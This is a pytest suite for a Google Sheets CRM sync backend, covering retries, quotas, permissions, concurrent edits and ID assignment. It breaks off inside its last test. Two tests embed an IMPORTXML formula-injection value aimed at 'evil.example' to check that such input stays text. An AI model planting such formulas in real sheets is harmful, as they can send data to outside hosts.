"""The Google Sheets backend: real gspread over HTTP to the project's Sheets API emulator."""

from __future__ import annotations

import datetime as dt
import json

import pytest

from sheetcrm.config import Config
from sheetcrm.starter import write_demo
from sheetcrm.sync import plan_sync, sync
from sheetcrm.workbook import CellWrite, Plan, WorkbookConflict, WorkbookError, same_value
from sheetcrm.workbook.credentials import connect
from sheetcrm.workbook.target import header_tests
from sheetcrm.workbook.gsheets import MAX_PAYLOAD, GoogleSheetsWorkbook, RetryPolicy, spreadsheet_id
from sheetcrm.workbook.xlsx import XlsxWorkbook
from sheetcrm.written import BOOK

AS_OF = dt.date(2026, 11, 23)



class Traced:
    """A Google workbook plus the trace of every HTTP attempt it made."""

    def __init__(self, key: str, attempts: int = 6) -> None:
        self.trace = []
        conn = connect(None, policy=RetryPolicy(attempts=attempts, sleep=lambda s: None), tracer=self.trace.append)
        self.book = GoogleSheetsWorkbook(conn.client, key, "sheetcrm@project.iam.gserviceaccount.com",
                                        **header_tests(Config()))  # as `sheetcrm` builds it (target.py)

    def counts(self) -> tuple[int, int]:
        reads = sum(1 for t in self.trace if t.kind == "read")
        return reads, len(self.trace) - reads

    def reset(self) -> None:
        self.trace.clear()


def leads_sheet(emu, rows: list[list], extra: dict | None = None) -> str:
    return emu.create_spreadsheet("CRM", {"Leads": rows, **(extra or {})})


def test_spreadsheet_id_from_url_or_id():
    key = "1FWpzD9JcXk15AzCvq28u0eJa1bHoMkSbLF1u1XOo0zc"
    assert spreadsheet_id(f"https://docs.google.com/spreadsheets/d/{key}/edit#gid=0") == key
    assert spreadsheet_id(f"  {key} ") == key
    with pytest.raises(WorkbookError):
        spreadsheet_id("not a sheet!")


def test_demo_on_google_matches_the_xlsx_path(emu, tmp_path):
    key = emu.create_spreadsheet("CRM", {"Sheet1": []})
    google = Traced(key).book
    write_demo(google, rows=40, seed=5, today=AS_OF)
    g = sync(google, Config(), as_of=AS_OF)
    xlsx = XlsxWorkbook(tmp_path / "demo.xlsx")
    write_demo(xlsx, rows=40, seed=5, today=AS_OF)
    x = sync(xlsx, Config(), as_of=AS_OF)

    # Only the .xlsx carries its identity among sheetcrm's marks (written.BOOK: a moved file
    # finds its written-cells state by it; a Google spreadsheet is named by its key): one row more.
    assert {**g.cells_written, "_sheetcrm": g.cells_written["_sheetcrm"] + 2} == x.cells_written
    assert [i.as_dict() for i in g.crm.report.issues] == [i.as_dict() for i in x.crm.report.issues]
    assert g.crm.stats() == x.crm.stats()
    g_tabs, x_tabs = google.read().tabs, xlsx.read().tabs
    assert set(g_tabs) - {"Sheet1"} == set(x_tabs)
    assert sum(row[:1] == [BOOK] for row in x_tabs["_sheetcrm"].rows) == 1
    assert not any(row[:1] == [BOOK] for row in g_tabs["_sheetcrm"].rows)
    for title, grid in x_tabs.items():
        # Cell by cell as a person reads them: Google reports dates as serial numbers.
        mine, theirs = g_tabs[title].rows, [row for row in grid.rows if row[:1] != [BOOK]]
        assert len(mine) == len(theirs), title
        for r, (a, b) in enumerate(zip(mine, theirs)):
            width = max(len(a), len(b))
            a, b = a + [None] * (width - len(a)), b + [None] * (width - len(b))
            assert all(same_value(x, y) for x, y in zip(a, b)), (title, r + 1, a, b)
    # The demo's workflow rules act at its first two syncs; what they made shows at the third (as `sheetcrm demo` runs).
    for _n in range(2):
        sync(google, Config(), as_of=AS_OF)
    assert not sync(google, Config(), as_of=AS_OF).plan


@pytest.mark.parametrize("rows", [100, pytest.param(100_000, marks=pytest.mark.slow)])  # slow: run first (conftest)
def test_request_budget_is_the_same_at_any_size(emu, rows):
    sheet = [["ID", "Name", "Domain"]] + [[f"ACC-{i:06d}", f"Account {i}", ""] for i in range(1, rows + 1)]
    sheet[-1][0] = ""  # one new row: the sync must fill its ID
    sheet[-2][2] = 12  # and a bad cell for the Validation tab
    key = emu.create_spreadsheet("CRM", {"Accounts": sheet})
    t = Traced(key)
    # The Accounts Overview, a row per account, is the one tab whose first write grows with the
    # accounts (2 MB batches); its budget is tests/test_overview_backends.py's.
    config = Config.model_validate({"overview": {"enabled": False}})
    first = sync(t.book, config, as_of=AS_OF)
    assert first.cells_written["Accounts"] == 1
    # metadata + values, key-column re-read, one batchUpdate, and the read-back of where the ID
    # fill landed: the only extra request, made only by a sync that writes into people's rows
    assert t.counts() == (4, 1)
    assert emu.values(key, "Accounts")[-1][0] == f"ACC-{rows:04d}"  # one past the highest, ACC-{rows - 1}
    t.reset()
    assert sync(t.book, config, as_of=AS_OF).cells_written == {}
    assert t.counts() == (2, 0)
    t.reset()
    emu.set_values(key, f"Accounts!B{rows + 2}", [["Typed meanwhile"]])
    assert sync(t.book, config, as_of=AS_OF).cells_written["Accounts"] == 1
    assert t.counts() == (4, 1)


def test_writes_are_text_never_formulas_and_keep_leading_zeros(emu):
    key = leads_sheet(emu, [["ID", "Last Name", "Email"], ["0042", '=IMPORTXML("http://x","//a")', "nope"]])
    t = Traced(key)
    sync(t.book, Config(), as_of=AS_OF)
    [row] = [r for r in emu.values(key, "Validation") if "bad_email" in r]
    assert ["error", "Leads", 2, "C", "Email", "nope"] == row[:6]
    # Nothing sheetcrm wrote is a formula: the raw entered values are all plain.
    book = emu.service.book(key)
    sheet = next(s for s in book.sheets if s.title == "Validation")
    entered = [c["userEnteredValue"] for row in sheet.cells.values() for c in row.values() if "userEnteredValue" in c]
    assert entered and all("formulaValue" not in v for v in entered)
    assert emu.values(key, "Leads")[1][:2] == ["0042", '=IMPORTXML("http://x","//a")']


def test_a_record_added_into_an_empty_row_a_person_hid_is_shown_in_the_same_batch(emu):
    """Rows below the data hidden to tidy the tab: a converted lead's account (a form's lead, a
    workflow's task) landed in one and stayed unseen on Google, to be typed in again by hand,
    where the .xlsx path shows it. The row is shown in the write's one batch, no request more;
    a hidden row that holds a record (filtered out) stays hidden when its ID is filled."""
    key = emu.create_spreadsheet("CRM", {"Accounts": [["ID", "Name"], ["", "Acme"]]})
    sid = emu.sheet_id(key, "Accounts")
    emu.apply(key, [{"updateDimensionProperties": {
        "range": {"sheetId": sid, "dimension": "ROWS", "startIndex": 1, "endIndex": 9},
        "properties": {"hiddenByUser": True}, "fields": "hiddenByUser"}}])
    t = Traced(key)
    t.book.read()
    t.reset()
    t.book.write(Plan(writes=[CellWrite("Accounts", 2, 1, "ACC-0001", expect=((1, None), (2, "Acme"))),
                              CellWrite("Accounts", 3, 1, "ACC-0002", expect=((1, None), (2, None))),
                              CellWrite("Accounts", 3, 2, "Globex", expect=((1, None), (2, None)))]))
    assert t.counts() == (2, 1)  # the key re-read, the batch, the read-back: as before
    assert emu.values(key, "Accounts")[1:] == [["ACC-0001", "Acme"], ["ACC-0002", "Globex"]]
    sheet = emu.service.book(key).sheet_by_id(sid)
    assert [bool(sheet.row_meta.get(r, {}).get("hiddenByUser")) for r in (1, 2, 3)] == [True, False, True]


def test_injection_through_a_user_cell_stays_text_in_the_validation_tab(emu):
    evil = '=IMPORTXML("http://evil.example","//a")'
    key = leads_sheet(emu, [["ID", "Last Name", "Email"], ["LEAD-0001", "Ng", evil]])
    emu.set_values(key, "Leads!C2", [[evil]], value_input="RAW")
    sync(Traced(key).book, Config(), as_of=AS_OF)
    [row] = [r for r in emu.values(key, "Validation") if "bad_email" in r]
    assert row[5] == evil


def test_429_three_times_then_success(emu):
    key = leads_sheet(emu, [["ID", "Last Name"], ["", "Ng"]])
    t = Traced(key)
    emu.fail_next(3, status=429, retry_after=0)
    sync(t.book, Config(), as_of=AS_OF)
    assert emu.values(key, "Leads")[1][0] == "LEAD-0001"
    assert [x.status for x in t.trace[:4]] == [429, 429, 429, 200]


def test_503_is_retried(emu):
    key = leads_sheet(emu, [["ID", "Last Name"], ["LEAD-0001", "Ng"]])
    t = Traced(key)
    emu.fail_next(1, status=503)
    assert sync(t.book, Config(), as_of=AS_OF).crm.report.valid
    assert [x.status for x in t.trace[:2]] == [503, 200]



def test_an_attempt_that_goes_silent_times_out_and_is_retried(emu):
    """An attempt whose connection goes silent (a suspend, a NAT or proxy dropping it, a hung
    front end) ends after `[google] timeout_seconds` and is retried like a reset. gspread sends
    with no timeout: the read waited as long as the silence did, for ever on a dead connection,
    and `sheetcrm run` with it (no sync, no quote, no log line)."""
    import threading

    from sheetcrm.workbook.target import open_workbook

    key = leads_sheet(emu, [["ID", "Last Name"], ["LEAD-0001", "Ng"]])
    trace = []
    config = Config(google={"timeout_seconds": 0.5, "backoff_seconds": 0.01, "max_backoff_seconds": 0.01})
    book = open_workbook(config, spreadsheet=key, tracer=trace.append)
    release = threading.Event()
    emu.between_requests(lambda _emu: release.wait(5))  # the first attempt's answer never comes in time
    try:
        snapshot = book.read()
    finally:
        release.set()
    assert [t.status for t in trace[:2]] == [None, 200]
    assert snapshot.tabs["Leads"].rows[1][0] == "LEAD-0001"


def _plan_into_new_tab(rows: int = 3) -> Plan:
    return Plan(new_tabs=["Notes"], writes=[CellWrite("Notes", r, 1, f"note {r}") for r in range(1, rows + 1)])


@pytest.mark.parametrize("after_applying", [False, True])
def test_connection_reset_during_the_write_leaves_no_half_state(emu, after_applying):
    key = leads_sheet(emu, [["ID", "Last Name"], ["LEAD-0001", "Ng"]])
    t = Traced(key)
    t.book.read()
    emu.drop_next(1, after_applying=after_applying)
    result = t.book.write(_plan_into_new_tab())
    assert result.written == {"Notes": 3}
    assert emu.values(key, "Notes") == [["note 1"], ["note 2"], ["note 3"]]
    assert [s.title for s in emu.service.book(key).sheets].count("Notes") == 1


def test_a_failed_batch_changes_nothing(emu):
    key = leads_sheet(emu, [["ID", "Last Name"], ["LEAD-0001", "Ng"]])
    t = Traced(key)
    t.book.read()
    plan = _plan_into_new_tab()
    plan.writes.append(CellWrite("Notes", 1, 1, "x" * 50_001))  # over Google's 50,000 characters per cell
    with pytest.raises(WorkbookError, match="400"):
        t.book.write(plan)
    assert "Notes" not in [s.title for s in emu.service.book(key).sheets]


def test_exhausted_quota_ends_in_a_clear_error(emu):
    key = leads_sheet(emu, [["ID", "Last Name"], ["LEAD-0001", "Ng"]])
    t = Traced(key, attempts=3)
    emu.fail_next(3, status=429)
    with pytest.raises(WorkbookError) as err:
        sync(t.book, Config(), as_of=AS_OF)
    message = str(err.value)
    assert "3 attempts" in message and "429" in message and "exhausted" in message


def test_403_says_whom_to_share_with_and_404_says_not_found(emu):
    key = leads_sheet(emu, [["ID"]])
    t = Traced(key)
    emu.fail_next(1, status=403)
    with pytest.raises(WorkbookError, match="share the spreadsheet with sheetcrm@project.iam.gserviceaccount.com"):
        t.book.read()
    with pytest.raises(WorkbookError, match="not found"):
        Traced("1" + "x" * 43).book.read()


def test_a_spreadsheet_shared_read_only_says_so_at_its_first_write(emu):
    """Shared as Viewer: the reads go through and the write is Google's 403, said as such
    (not "share it", which it is) in one line, without retrying a refusal."""
    key = leads_sheet(emu, [["ID", "Last Name"], ["", "Ng"]])
    emu.share(key, "reader")
    t = Traced(key)
    with pytest.raises(WorkbookError) as err:
        sync(t.book, Config(), as_of=AS_OF)
    assert str(err.value) == (f"Google spreadsheet {key}: Google refused the write: "
                              "sheetcrm@project.iam.gserviceaccount.com may read the spreadsheet but not edit it "
                              "(shared as Viewer or Commenter); share it with sheetcrm@project.iam.gserviceaccount.com "
                              "as Editor")
    assert [x.status for x in t.trace if x.kind == "write"] == [403]
    assert emu.values(key, "Leads") == [["ID", "Last Name"], ["", "Ng"]]


def test_a_range_protected_against_sheetcrm_is_named_when_google_refuses_the_write(emu):
    """The owner protected the header row (a team's usual guard against renamed columns) and
    sheetcrm's account is no editor there: Google refuses the batch whole; the line names the
    range a cell of the plan falls in, not a request index. A warning-only protection, or a
    protected range sheetcrm writes nothing into, lets the sync through."""
    key = leads_sheet(emu, [["ID", "Last Name", "Email"], ["", "Ng", "ng@x.com"]],
                      {"Q1 2026": [["Note"], ["kept"]]})
    emu.share(key, "writer")
    leads, notes = emu.sheet_id(key, "Leads"), emu.sheet_id(key, "Q1 2026")
    header = emu.apply(key, [{"addProtectedRange": {"protectedRange": {
        "range": {"sheetId": leads, "startRowIndex": 0, "endRowIndex": 1}, "description": "headers"}}},
        {"addProtectedRange": {"protectedRange": {"range": {"sheetId": notes}}}}])[0]["addProtectedRange"]
    t = Traced(key)
    with pytest.raises(WorkbookError) as err:
        sync(t.book, Config(), as_of=AS_OF)
    assert str(err.value) == (f'Google spreadsheet {key}: Google refused the write: the spreadsheet\'s owner protected '
                              'Leads!1:1 ("headers") and sheetcrm@project.iam.gserviceaccount.com is not among the '
                              'editors there; ask the owner to add sheetcrm@project.iam.gserviceaccount.com as an '
                              'editor of that range (Data > Protect sheets and ranges) or to make it show a warning '
                              'only')
    assert emu.values(key, "Leads") == [["ID", "Last Name", "Email"], ["", "Ng", "ng@x.com"]]

    emu.apply(key, [{"updateProtectedRange": {"protectedRange": {
        "protectedRangeId": header["protectedRange"]["protectedRangeId"], "warningOnly": True}, "fields": "warningOnly"}}])
    sync(t.book, Config(), as_of=AS_OF)
    assert emu.values(key, "Leads")[1][0] == "LEAD-0001"


def test_a_batch_over_2mb_is_split_into_parts_under_2mb_and_converges(emu):
    key = leads_sheet(emu, [["ID", "Last Name"], ["LEAD-0001", "Ng"]])
    t = Traced(key)
    t.book.read()
    plan = Plan(new_tabs=["Big"], writes=[CellWrite("Big", r, 1, "y" * 1000) for r in range(1, 3001)])
    t.reset()
    assert t.book.write(plan).written == {"Big": 3000}
    writes = [x for x in t.trace if x.kind == "write"]
    assert len(writes) == 2 and all(x.sent <= MAX_PAYLOAD for x in writes)
    assert len(emu.values(key, "Big")) == 3000


def test_concurrent_insert_sort_and_delete_never_misplace_a_value(emu):
    rows = [["ID", "Last Name", "Company"], ["", "Adams", "A Co"], ["LEAD-0001", "Baker", "B Co"],
            ["", "Clark", "C Co"], ["", "Davis", "D Co"]]
    key = leads_sheet(emu, rows)
    t = Traced(key)

    def user_edits(e):
        e.insert_rows(key, "Leads", 1)                       # a row inserted above everything
        e.set_values(key, "Leads!A2:C2", [["", "Early", "E Co"]])
        e.sort_rows(key, "Leads", 1, descending=True)         # sort by Last Name, Z→A
        # Now Early, Davis, Clark, Baker, Adams: someone deletes Clark's row meanwhile
        e.delete_rows(key, "Leads", 3)
        e.set_values(key, "Leads!A3", [["MINE-1"]])           # and types Davis an ID of their own

    before_write = {}
    snapshot = t.book.read()
    _, _, plan = plan_sync(snapshot, Config(), AS_OF)
    emu.between_requests(lambda e: (user_edits(e), before_write.update({"rows": e.values(key, "Leads")})))
    result = t.book.write(plan)
    after = emu.values(key, "Leads")

    # No user-typed cell changed: Last Name and Company are exactly as the user left them.
    assert [r[1:3] for r in after] == [r[1:3] for r in before_write["rows"]]
    assert after[2][:2] == ["MINE-1", "Davis"]

    def record(w):  # the Last Name a write was planned for
        expect = dict(w.expect)
        return expect[2] if expect[1] is None else {"LEAD-0001": "Baker"}[expect[1]]

    planned = {(record(w), w.col): w.value for w in plan.writes if w.tab == "Leads" and w.row > 1}
    skipped = {(record(w), w.col) for w in result.skipped if w.tab == "Leads"}
    # Every value sheetcrm wrote sits on the record it was computed for; dropped ones are empty.
    for row in after[1:]:
        for col, value in enumerate(row[:7], 1):
            if (row[1], col) in planned and (row[1], col) not in skipped and not (col == 1 and row[0] == "MINE-1"):
                assert value == planned[(row[1], col)], (row, col)
    # Clark's row is gone and Davis has an ID now: those fills were dropped, Adams's re-aimed.
    assert {name for name, col in skipped if col == 1} == {"Clark", "Davis"}
    assert [r[0] for r in after if r[1] == "Adams"] == [planned[("Adams", 1)]]
    # The next sync fills whatever is still empty, and then nothing is left to do.
    sync(t.book, Config(), as_of=AS_OF)
    final = emu.values(key, "Leads")
    assert all(r[0] for r in final[1:])
    ids = [r[0] for r in final[1:]]
    assert len(ids) == len(set(ids))
    assert not sync(t.book, Config(), as_of=AS_OF).plan


def test_missing_credentials_is_one_clear_error(monkeypatch):
    monkeypatch.delenv("SHEETS_EMULATOR_HOST", raising=False)
    monkeypatch.delenv("GOOGLE_APPLICATION_CREDENTIALS", raising=False)
    with pytest.raises(WorkbookError, match="no Google credentials"):
        connect(None)


def test_credential_errors_never_echo_secrets(tmp_path, monkeypatch):
    monkeypatch.delenv("SHEETS_EMULATOR_HOST", raising=False)
    secret = "-----BEGIN PRIVATE KEY-----\nTOPSECRET\n-----END PRIVATE KEY-----\n"
    bad = tmp_path / "sa.json"
    bad.write_text(json.dumps({"type": "service_account", "private_key": secret, "client_email": "a@b.c",
                               "token_uri": "https://oauth2.googleapis.com/token"}))
    with pytest.raises(WorkbookError) as err:
        connect(str(bad))
    assert "TOPSECRET" not in str(err.value) and "sa.json" in str(err.value)


def test_example_credentials_file_has_the_service_account_shape():
    from pathlib import Path

    example = json.loads((Path(__file__).parent.parent / "credentials.example.json").read_text())
    assert example["type"] == "service_account"
    assert {"project_id", "private_key_id", "private_key", "client_email", "client_id", "token_uri"} <= set(example)


LEAD_HEADER = ["ID", "First Name", "Last Name", "Company", "Email", "Status", "Source"]
SOURCES = ["Web", "Referral", "Event", "Partner"]


def leads(n: int, with_ids: bool = True) -> list[list]:
    return [[f"LEAD-{i:04d}" if with_ids else "", f"Ana{i}", f"Last{i:02d}", f"Co {i}", f"p{i}@x{i}.com", "New",
             SOURCES[i % len(SOURCES)]] for i in range(1, n + 1)]


def in_the_window(emu, edit) -> None:
    """Run `edit` after the key-column re-read, just before the batchUpdate it aimed (after
    the read of the rules under a first guide's dropdowns too, when the write applies one)."""
    emu.before_next(":batchUpdate", edit)


def by_email(rows: list[list]) -> dict[str, list]:
    email = rows[0].index("Email")
    return {r[email]: r for r in rows[1:] if len(r) > email and r[email]}


@pytest.mark.parametrize("edit", ["insert", "sort", "delete"])
def test_an_edit_between_the_re_read_and_the_write_changes_no_id_and_misplaces_no_value(emu, edit):
    key = leads_sheet(emu, [LEAD_HEADER, *leads(12)])
    t = Traced(key)
    sync(t.book, Config(), as_of=AS_OF)          # computed columns in place, every lead has an ID
    rows = emu.values(key, "Leads")
    header = rows[0]
    computed = [header.index(h) for h in ("Score", "Grade", "Why")]
    # People add three leads between the records and change where three others came from.
    for at, i in ((3, 13), (7, 14), (11, 15)):
        emu.insert_rows(key, "Leads", at)
        emu.set_values(key, f"Leads!A{at + 1}", leads(i, with_ids=False)[-1:])
    for row in (2, 6, 10):
        emu.set_values(key, f"Leads!G{row}", [["Referral" if rows[row - 1][6] != "Referral" else "Event"]])
    ids_before = {email: r[0] for email, r in by_email(emu.values(key, "Leads")).items() if r[0]}

    def person(e):
        if edit == "insert":
            e.insert_rows(key, "Leads", 1)
            e.set_values(key, "Leads!B2:G2", [["Early", "Bird", "E Co", "early@e.com", "New", "Web"]])
        elif edit == "sort":
            e.sort_rows(key, "Leads", 2, descending=True)
        else:
            e.delete_rows(key, "Leads", 1)
        seen["rows"] = e.values(key, "Leads")

    seen: dict = {}
    t.reset()
    snapshot = t.book.read()
    _, _, plan = plan_sync(snapshot, Config(), AS_OF)
    assert any(w.tab == "Leads" and w.col == 1 and w.row > 1 for w in plan.writes)  # ID fills
    assert any(w.tab == "Leads" and w.col - 1 in computed and w.row > 1 for w in plan.writes)
    in_the_window(emu, person)
    since = len(emu.requests)
    t.book.write(plan)
    after = emu.values(key, "Leads")

    # Reads: metadata, values, key re-read, read-back, and the read-back of the repair (its
    # computed cells are written by position); writes: the batch and its repair.
    assert t.counts() == (5, 2)
    repair = json.loads(emu.requests[-2].request)["requests"]
    assert emu.requests[-2].path.endswith(":batchUpdate") and len(emu.requests) - since == 5
    if edit != "delete" or any("findReplace" in r for r in repair):
        assert all(r["findReplace"]["matchEntireCell"] for r in repair if "findReplace" in r)
    # No user cell changed or moved: the people's columns read exactly as the edit left them.
    assert [r[1:7] for r in after] == [r[1:7] for r in seen["rows"]]
    # Every record keeps the ID it had; the deleted one is simply gone.
    now = by_email(after)
    for email, old in ids_before.items():
        if email in now:
            assert now[email][0] == old, (email, now[email][0], old)
    ids = [r[0] for r in after[1:] if r and r[0]]
    assert len(ids) == len(set(ids))
    # No computed value sits on another record's row: each row holds its own record's values
    # as a converged sync computes them, or (a record without an ID yet) nothing.
    final = by_email(converge(t.book, emu, key))
    for email, row in now.items():
        mine = [row[c] if c < len(row) else "" for c in computed]
        theirs = [final[email][c] for c in computed]
        assert mine == theirs or (not row[0] and mine == ["", "", ""]), (email, mine, theirs)
    assert {email: r[0] for email, r in final.items() if email in ids_before} == \
        {email: i for email, i in ids_before.items() if email in now}


def converge(book, emu, key: str) -> list[list]:
    for _ in range(3):
        if not sync(book, Config(), as_of=AS_OF).plan:
            return emu.values(key, "Leads")
    raise AssertionError("syncs did not converge")


def test_owned_tabs_carry_a_developer_metadata_mark_read_in_the_same_request(emu):
    key = leads_sheet(emu, [["ID", "Last Name"], ["LEAD-0001", "Adams"]], {"Pipeline": [["Our own pipeline"]]})
    t = Traced(key)
    assert t.book.read().owned == set()    # a team tab named like one of sheetcrm's is not its own
    t.reset()
    plan = Plan(new_tabs=["Dashboard"], writes=[CellWrite("Dashboard", 1, 1, "KPI")],
                mark_owned=["Dashboard", "Pipeline (sheetcrm)"])
    plan.new_tabs.append("Pipeline (sheetcrm)")
    t.book.write(plan)
    assert t.counts() == (0, 1)  # nothing guarded: no re-read, no read-back; the marks ride along
    marks = [m for m in emu.service.book(key).developer_metadata if m["metadataKey"] == "sheetcrm.tab"]
    assert sorted((m["metadataValue"], m["visibility"], m["location"]["locationType"]) for m in marks) == [
        ("Dashboard", "DOCUMENT", "SHEET"), ("Pipeline (sheetcrm)", "DOCUMENT", "SHEET")]
    assert {m["location"]["sheetId"] for m in marks} == {emu.sheet_id(key, "Dashboard"),
                                                         emu.sheet_id(key, "Pipeline (sheetcrm)")}
    t.reset()
    snapshot = t.book.read()
    assert t.counts() == (2, 0)  # the marks come with the tab list: no extra request
    assert snapshot.owned == {"Dashboard", "Pipeline (sheetcrm)"}
    # The mark follows the tab, not its title: renamed, it is still sheetcrm's.
    emu.apply(key, [{"updateSheetProperties": {"properties": {"sheetId": emu.sheet_id(key, "Dashboard"),
                                                              "title": "KPIs"}, "fields": "title"}}])
    assert t.book.read().owned == {"KPIs", "Pipeline (sheetcrm)"}
    # Marking again adds nothing.
    t.book.write(Plan(mark_owned=["KPIs", "Pipeline (sheetcrm)"]))
    assert len([m for m in emu.service.book(key).developer_metadata if m["metadataKey"] == "sheetcrm.tab"]) == 2
    assert emu.values(key, "Pipeline") == [["Our own pipeline"]]


def test_a_record_typed_into_the_window_never_gets_the_id_of_a_record_below(emu):
    # Found by the soak (bench/soak.py, seed 7): a row typed in between the re-read and the
    # write takes the first fill; the rows below shift, and a later fill lands on a record that
    # has an ID. The new row's ID was never read, and the ID that went missing is the record's
    # below (its fingerprint is still on the sheet): it must not be given to the new row.
    rows = [LEAD_HEADER, *leads(4)]
    rows[2][0] = rows[4][0] = ""                  # Ana2 (row 3) and Ana4 (row 5) get IDs
    key = emu.create_spreadsheet("CRM", {"Leads": rows})
    t = Traced(key)
    _, _, plan = plan_sync(t.book.read(), Config(), AS_OF)
    assert {w.row for w in plan.writes if w.tab == "Leads" and w.col == 1} == {3, 5}

    def person(e):
        e.insert_rows(key, "Leads", 2)            # before Ana2: Ana3 (LEAD-0003) moves to row 5
        e.set_values(key, "Leads!B3:G3", [["New", "Row", "N Co", "new@n.com", "New", "Web"]])

    in_the_window(emu, person)
    t.book.write(plan)
    after = by_email(emu.values(key, "Leads"))
    assert after["p1@x1.com"][0] == "LEAD-0001" and after["p3@x3.com"][0] == "LEAD-0003"
    assert after["new@n.com"][0] == ""            # its ID comes from the next sync
    sync(t.book, Config(), as_of=AS_OF)
    final = by_email(emu.values(key, "Leads"))
    assert (final["p1@x1.com"][0], final["p3@x3.com"][0]) == ("LEAD-0001", "LEAD-0003")
    ids = [r[0] for r in final.values()]
    assert all(ids) and len(set(ids)) == len(ids)


def _one_fill_at_row_3(emu):
    """Four leads, Ana2 (row 3) without an ID: the spreadsheet, its traced book, the plan and its one ID fill."""
    rows = [LEAD_HEADER, *leads(4)]
    rows[2][0] = ""                               # Ana2 (row 3) gets an ID
    key = emu.create_spreadsheet("CRM", {"Leads": rows})
    t = Traced(key)
    _, _, plan = plan_sync(t.book.read(), Config(), AS_OF)
    (fill,) = [w for w in plan.writes if w.tab == "Leads" and w.col == 1]
    return key, t, plan, fill


def test_a_record_typed_into_the_window_never_gets_the_id_of_a_record_deleted_meanwhile(emu):
    # Found by the soak (bench/soak.py, seed 26): a row typed in between the re-read and the
    # write takes a fill, and another record's row is deleted before the read-back. The ID that
    # went missing is the deleted record's, not the new row's (it had none): the read-back
    # used to put it on the new row, a deleted deal's ID on another deal (and a workflow fired
    # on its "changed" Amount). It cannot be told, so the new ID stays and no history names it.
    key, t, plan, fill = _one_fill_at_row_3(emu)
    assert fill.row == 3

    def person(e):
        e.insert_rows(key, "Leads", 2)            # before Ana2: a row typed in takes the fill
        e.set_values(key, "Leads!B3:G3", [["New", "Row", "N Co", "new@n.com", "New", "Web"]])
        e.between_requests(lambda e2: e2.delete_rows(key, "Leads", 5))  # Ana4 (LEAD-0004, row 6) deleted

    in_the_window(emu, person)
    result = t.book.write(plan)
    assert fill in result.skipped
    after = by_email(emu.values(key, "Leads"))
    assert "p4@x4.com" not in after
    assert all(r[0] != "LEAD-0004" for r in after.values())  # the deleted record's ID is on no row
    assert after["new@n.com"][0] == fill.value and after["p2@x2.com"][0] == ""
    assert all(fill.value not in r for r in emu.values(key, "Lead Status History"))
    sync(t.book, Config(), as_of=AS_OF)
    final = by_email(emu.values(key, "Leads"))
    ids = [r[0] for r in final.values()]
    assert all(ids) and len(set(ids)) == len(ids) and "LEAD-0004" not in ids


def test_an_overwritten_id_of_another_shape_is_written_back_by_position(emu):
    # IDs a team brought from another system: text Sheets might not keep as typed if it were
    # entered as a replacement, so they go back as typed text to the row the read-back saw.
    rows = [LEAD_HEADER, ["0042", "Ann", "Adams", "A Co", "a@a.com", "New", "Web"],
            ["", "Bob", "Baker", "B Co", "b@b.com", "New", "Event"],
            ["legacy 7", "Cy", "Clark", "C Co", "c@c.com", "New", "Referral"]]
    key = emu.create_spreadsheet("CRM", {"Leads": rows})
    t = Traced(key)
    _, _, plan = plan_sync(t.book.read(), Config(), AS_OF)
    in_the_window(emu, lambda e: e.insert_rows(key, "Leads", 1))
    t.book.write(plan)
    after = by_email(emu.values(key, "Leads"))
    assert (after["a@a.com"][0], after["c@c.com"][0]) == ("0042", "legacy 7")
    assert after["b@b.com"][0] == ""  # its fill landed on Adams and was taken back; the next sync gives it one
    history = emu.values(key, "Lead Status History")
    # No history row names the ID taken back: its row is cleared, and the next sync compacts the tab.
    assert [r[:1] for r in history[1:]] == [["0042"], [], ["legacy 7"]]
    sync(t.book, Config(), as_of=AS_OF)
    assert by_email(emu.values(key, "Leads"))["b@b.com"][0].startswith("LEAD-")


def test_a_new_id_on_a_row_deleted_before_the_read_back_leaves_no_history_naming_it(emu):
    # Found by the soak (bench/soak.py, seeds 27 and 31): an edit in the window puts a fill on
    # another record's row, and that row is deleted before the read-back. The new ID is then on
    # no row at all; its record never got it, so no history row may name it.
    key, t, plan, fill = _one_fill_at_row_3(emu)
    assert fill.row == 3 and any(w.requires == fill.key for w in plan.writes)

    def person(e):
        e.insert_rows(key, "Leads", 1)            # a blank row on top: the fill lands on Ana1's row
        e.between_requests(lambda e2: e2.delete_rows(key, "Leads", 2))  # Ana1 deleted before the read-back

    in_the_window(emu, person)
    result = t.book.write(plan)
    assert fill in result.skipped
    after = by_email(emu.values(key, "Leads"))
    assert "p1@x1.com" not in after and after["p2@x2.com"][0] == ""
    assert all(fill.value not in r for r in emu.values(key, "Lead Status History"))
    sync(t.book, Config(), as_of=AS_OF)
    leads_now = emu.values(key, "Leads")[1:]
    held = {r[0] for r in leads_now if r and r[0]}
    assert len(held) == 3 and by_email(emu.values(key, "Leads"))["p2@x2.com"][0] not in ("", fill.value)
    history_ids = {r[0] for r in emu.values(key, "Lead Status History")[1:] if r and r[0]}
    assert history_ids == held | {"LEAD-0001"}   # a deleted record's history stays


DEAL_HEADER = ["ID", "Name", "Account", "Stage", "Amount", "Close Date", "Notes"]


def deals_sheet(emu) -> str:
    rows = [DEAL_HEADER] + [["", f"Deal {i}", "Acme", "Proposal", 100 * i, "2026-12-01", f"note {i}"]
                            for i in range(1, 4)]
    return emu.create_spreadsheet("CRM", {"Opportunities": rows, "Accounts": [["ID", "Name"], ["", "Acme"]]})


def column_edit(emu, key: str, edit: str) -> None:
    sheet_id = emu.sheet_id(key, "Opportunities")
    if edit == "move ID to the end":
        emu.apply(key, [{"moveDimension": {"source": {"sheetId": sheet_id, "dimension": "COLUMNS", "startIndex": 0,
                                                      "endIndex": 1}, "destinationIndex": 7}}])
    elif edit == "insert before Stage":
        emu.apply(key, [{"insertDimension": {"range": {"sheetId": sheet_id, "dimension": "COLUMNS", "startIndex": 3,
                                                       "endIndex": 4}}}])
    else:  # a person starts a column of their own where sheetcrm's first computed column goes
        emu.set_values(key, "Opportunities!H1", [["Team col"], ["t1"], ["t2"], ["t3"]])


def by_header(rows: list[list]) -> dict[str, list]:
    return {h: [r[c] if c < len(r) else "" for r in rows[1:]] for c, h in enumerate(rows[0]) if h}


@pytest.mark.parametrize("edit, when", [("move ID to the end", "window"), ("insert before Stage", "window"),
                                        ("insert before Stage", "re-read"), ("type a column into H", "re-read")])
def test_a_column_edited_during_the_write_never_loses_a_persons_cell(emu, edit, when):
    # Found by a tester: sheetcrm wrote to the column positions it planned, so a column
    # inserted or moved between its read and its write got the IDs (over the names) or the
    # Probability (over the notes, or a person's new column), and the read-back then "took
    # back" the IDs with an empty cell. The header row now rides along with the key re-read
    # and the read-back: writes into moved columns are dropped, or put back as they were.
    key = deals_sheet(emu)
    t = Traced(key)
